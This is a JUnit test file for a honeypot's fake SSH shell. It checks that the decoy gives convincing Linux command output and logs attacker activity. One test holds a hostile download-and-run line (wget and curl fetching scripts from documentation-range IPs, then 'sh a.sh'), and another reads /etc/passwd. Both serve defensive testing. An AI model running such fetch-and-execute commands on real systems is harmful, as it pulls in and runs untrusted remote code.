package io.hsystem.sensor.service;

import static org.assertj.core.api.Assertions.assertThat;

import io.hsystem.sensor.RecordingSink;
import io.hsystem.sensor.TestSensors;
import io.hsystem.sensor.core.DecoySession;
import io.hsystem.sensor.core.EventEmitter;
import java.net.InetSocketAddress;
import org.junit.jupiter.api.Test;

class FakeShellTest {

  final RecordingSink sink = new RecordingSink();
  final DecoyProfile profile = DecoyProfile.load(TestSensors.sharedDataDir());
  final FakeShell shell =
      new FakeShell(
          profile,
          "root",
          new DecoySession(
              "ssh",
              new InetSocketAddress("192.0.2.9", 50000),
              new InetSocketAddress("10.0.0.1", 22),
              new EventEmitter(sink)));

  String run(String line) {
    return shell.run(line).output();
  }

  @Test
  void answersCommonCommandsPlausibly() {
    assertThat(run("whoami")).isEqualTo("root\n");
    assertThat(run("id")).isEqualTo("uid=0(root) gid=0(root) groups=0(root)\n");
    assertThat(run("pwd")).isEqualTo("/root\n");
    assertThat(run("uname -a"))
        .startsWith("Linux " + profile.hostname + " " + profile.kernel)
        .endsWith("x86_64 x86_64 x86_64 GNU/Linux\n");
    assertThat(run("uname -m")).isEqualTo("x86_64\n");
    assertThat(run("cat /etc/passwd")).startsWith("root:x:0:0:root:/root:/bin/bash\n");
    assertThat(run("ls /")).contains("bin  boot  dev  etc");
    assertThat(run("ps aux")).contains("/usr/sbin/sshd");
    assertThat(run("ifconfig")).contains("inet " + profile.ip);
    assertThat(run("ip a")).contains("link/ether " + profile.mac);
    assertThat(run("echo hello   \"big world\"")).isEqualTo("hello big world\n");
    assertThat(run("echo -n x")).isEqualTo("x");
    assertThat(run("x")).isEqualTo("bash: x: command not found\n");
    assertThat(run("cat /proc/cpuinfo | grep name | wc -l")).isEqualTo("4\n");
    assertThat(run("cd /tmp && pwd")).isEqualTo("/tmp\n");
    assertThat(shell.prompt()).isEqualTo("root@" + profile.hostname + ":/tmp# ");
    assertThat(run("false_cmd || echo fallback")).contains("fallback");
    assertThat(run("echo secret > /tmp/f")).isEmpty();
    assertThat(shell.run("exit").exit()).isTrue();
  }

  @Test
  void recordsEveryLineAndEveryDownloadWithoutFetching() {
    String line =
        "cd /tmp; wget http://203.0.113.5/a.sh; curl -O https://203.0.113.6:8443/b; sh a.sh";
    assertThat(run(line))
        .contains("wget: unable to resolve host address '203.0.113.5'")
        .contains("curl: (6) Could not resolve host: 203.0.113.6");
    assertThat(sink.ofType("command"))
        .extracting(e -> e.getString("command_line"))
        .containsExactly(line);
    assertThat(sink.ofType("file_download"))
        .extracting(e -> e.getString("url"))
        .containsExactly("http://203.0.113.5/a.sh", "https://203.0.113.6:8443/b");
  }

  @Test
  void longLinesAreCut() {
    shell.run("echo " + "a".repeat(10_000));
    assertThat(sink.ofType("command").get(0).getString("command_line")).hasSize(FakeShell.MAX_LINE);
  }
}
